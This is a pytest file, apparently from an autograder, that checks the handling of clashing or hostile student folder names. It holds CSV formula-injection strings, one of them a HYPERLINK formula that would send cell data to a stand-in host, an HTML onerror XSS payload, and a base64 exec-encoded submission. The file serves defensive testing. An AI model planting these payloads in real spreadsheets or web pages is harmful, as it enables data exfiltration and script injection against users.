"""Issue 24, points 2 to 4, end to end: one ``autograde grade`` over two class folders whose
student folders collide with each other, take the names of the grader's own output, or are
spreadsheet formulas and HTML.

``s1/alice`` and ``s2/alice`` hand in the stub, ``s2/alice-2`` the reference: all three
keep their own records, scores and folders (the two alices as ``alice~clash1`` and
``alice~clash2``: neither is alice, and the command fails saying so), and nbgrader records them under the same ids.
``s2/gradebook.csv`` and ``s2/_runs`` are graded under safe ids and the output keeps its
gradebook and runs. Every CSV the grader writes (the gradebook, the class page's tables,
the similarity pairs, the changes after a regrade) holds those ids as text a spreadsheet
does not evaluate, and the class page shows them escaped. The rules themselves, without
grading: ``tests/test_student_ids.py``.
"""
import csv
import json

import pytest

import disguises
from autograder.authoring import course
from autograder.engine.discover import safe_id
from autograder.report.csvsafe import FORMULA_START, LEADING_NOISE
from conftest import autograde, lost, make_submission, value_mistake

pytestmark = pytest.mark.slow
EX = course.example()
HOSTILE = {                                   # folder name -> what it hands in
    '=HYPERLINK("evil.example?"&A1,"click")': "mistake",
    "+1+1": "reference",
    "-2+3": "mistake",
    "@SUM(1+1)": "stub",
    "\t=1+2": "stub",
    "<img src=x onerror=alert(1)>": "reference",
}
#: folder names that are console markup: printed as they are, never interpreted
MARKUP = {"[red]y": "stub", "[bold]x": "reference"}


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    from nbgrader.api import Gradebook

    root = tmp_path_factory.mktemp("ids")
    code = {"stub": (EX.release_dir / f"{EX.name}.py").read_text(),
            "reference": EX.reference_module.read_text(),
            "mistake": value_mistake(EX).materialize()}
    code["encoded"] = disguises.exec_encoded(code["reference"])
    layout = {"s1/alice": "stub", "s2/alice": "stub", "s2/alice-2": "reference",
              "s2/gradebook.csv": "reference", "s2/_runs": "stub", "s2/zed": "encoded",
              **{f"s2/{name}": kind for name, kind in {**HOSTILE, **MARKUP}.items()}}
    for where, kind in layout.items():
        make_submission(root / where, EX.name, code[kind])
    out, db = root / "out", f"sqlite:///{root / 'gradebook.db'}"
    proc = autograde("grade", root / "s1", root / "s2", "-a", EX.name, "--out", out, "--json",
                     "--skip-slow", "--jobs", "2", "--nbgrader-db", db, check=False)
    assert proc.returncode == 2, proc.stderr         # s1/alice and s2/alice: a clash
    results = {r["submission"]: r for r in json.loads(proc.stdout)}
    with Gradebook(db) as gb:
        recorded = {s.id: gb.find_submission(EX.name, s.id).score for s in gb.students}
    autograde("similarity", out, "-a", EX.name)
    # a resubmission: -2+3 hands in the reference, so the changes table names that id
    make_submission(root / "s2" / "-2+3", EX.name, code["reference"])
    again = autograde("grade", root / "s1", root / "s2", "-a", EX.name, "--out", out,
                      "--skip-slow", "--jobs", "2", check=False)   # (the summary table this time)
    return root, out, results, proc.stderr, recorded, again.stdout


def test_three_alices_keep_three_records(graded):
    root, out, results, stderr, recorded, _ = graded
    full = results["alice-2"]["score"]          # every function right (conftest.lost)
    assert not lost(results["alice-2"]) and full > 0
    assert (results["alice~clash1"]["score"], results["alice~clash2"]["score"]) == (0, 0)
    assert "alice" not in results           # neither is alice by the order folders sort in
    for sid, score in (("alice~clash1", 0), ("alice~clash2", 0), ("alice-2", full)):
        assert json.loads((out / sid / "results.json").read_text())["score"] == score
    rows = {r[0]: r for r in csv.reader((out / "gradebook.csv").open(newline=""))}
    assert float(rows["alice~clash1"][1]) == 0 and float(rows["alice~clash2"][1]) == 0
    assert float(rows["alice-2"][1]) == full
    assert len(rows) == 1 + len(results) == 1 + 14          # every student has a row
    # the summary says who was renamed and why, in one line each
    assert f"{root / 's2' / 'alice'} is graded as alice~clash2: a clash: " \
           f"{ascii(str(root / 's1' / 'alice'))} has the same name once made safe" in stderr
    assert stderr.rstrip().endswith("or the folders are renamed")     # the one-line reason
    # nbgrader records the same ids, each with its own score
    assert set(recorded) == set(results)
    assert (recorded["alice~clash1"], recorded["alice~clash2"], recorded["alice-2"]) == \
        (0, 0, full)


def test_output_names_are_graded_under_safe_ids(graded):
    root, out, results, stderr, _, _ = graded
    assert results["student-gradebook.csv"]["score"] == results["alice-2"]["score"]
    assert "student-_runs" in results
    assert (out / "gradebook.csv").is_file() and (out / "_runs").is_dir()
    assert (out / "student-gradebook.csv" / "results.json").is_file()
    assert "is graded as student-gradebook.csv: gradebook.csv is the name of the grader's " \
           "own output" in stderr
    page = (out / "_report" / f"{EX.name}.html").read_text()
    assert 'id="renamed-table"' in page
    for sid in ("alice~clash2", "student-gradebook.csv", "student-_runs"):
        assert f"<tr><td>{sid}</td>" in page
    report = json.loads((out / "_report" / f"{EX.name}.json").read_text())
    assert {r["student"]: r["found_as"] for r in report["renamed"]} == {
        "alice~clash1": "alice", "alice~clash2": "alice",
        "student-gradebook.csv": "gradebook.csv", "student-_runs": "_runs",
        **{safe_id(name)[0]: name for name in HOSTILE if safe_id(name)[1]}}   # issue 34


def test_every_csv_holds_the_ids_as_data(graded):
    root, out, results, _, _, _ = graded
    tables = sorted(p for p in out.rglob("*.csv") if p.is_file())
    names = {p.name for p in tables}
    assert {"gradebook.csv", f"{EX.name}-scores.csv", f"{EX.name}-misconceptions.csv",
            f"{EX.name}-changes.csv", f"{EX.name}-similarity.csv"} <= names, names
    seen = set()
    for table in tables:
        for row in csv.reader(table.open(newline="")):
            for cell in row:
                first = cell.lstrip(LEADING_NOISE)[:1]
                if first in FORMULA_START or cell[:1] in ("\t", "\r"):
                    float(cell)     # only a number may start so (a negative one stays one)
                seen |= {name for name in HOSTILE if cell.startswith(safe_id(name)[0])}
    assert seen == set(HOSTILE)
    # the tables where a student's id leads a cell: a formula start is a safe id's (issue 34)
    changes = list(csv.reader((out / "_report" / f"{EX.name}-changes.csv").open(newline="")))
    assert any(r[0] == "_-2+3" for r in changes[1:])
    who = list(csv.reader((out / "_report" / f"{EX.name}-misconceptions.csv").open(newline="")))
    assert any("_=HYPERLINK" in r[-1] for r in who[1:]), who
    pairs = list(csv.reader((out / "_report" / f"{EX.name}-similarity.csv").open(newline="")))
    assert any("_+1+1" in r[:2] for r in pairs[1:]), pairs


def test_the_class_page_names_code_built_at_run_time(graded):
    """zed hands in the reference run from ``exec(base64.b64decode(...))``: full marks, and
    the page says so, with the line, and pairs it with the reference's other copies."""
    _, out, results, _, _, _ = graded
    assert not lost(results["zed"])
    found = json.loads((out / "_report" / f"{EX.name}-similarity.json").read_text())
    assert [(f["place"], f["what"], f["decoded"]) for f in found["dynamic"]["zed"]] == [
        ("line 2", "exec", True)] and list(found["dynamic"]) == ["zed"]
    assert {"zed", "alice-2"} in [{p["a"], p["b"]} for p in found["pairs"]]
    page = (out / "_report" / f"{EX.name}.html").read_text()
    row = page.split('id="dynamic-code"')[1].split("</table>")[0]
    assert "runs code built at run time</span> zed" in row and "<td>line 2</td>" in row
    assert "exec(base64.b64decode(" in row


def test_ids_that_are_console_markup_are_printed_as_they_are(graded):
    """The summary shows a folder called ``[bold]x`` by its name, not as a bold x that the
    TA would take for another student's id."""
    _, _, results, _, _, summary = graded
    assert {"[red]y", "[bold]x"} <= set(results)
    assert not lost(results["[bold]x"])
    assert "│ [red]y" in summary and "│ [bold]x" in summary and "-2+3" in summary


def test_the_class_page_escapes_the_ids(graded):
    _, out, _, _, _, _ = graded
    page = (out / "_report" / f"{EX.name}.html").read_text()
    assert "<img src=x" not in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "=HYPERLINK(&#34;evil.example?&#34;&amp;A1,&#34;click&#34;)" in page
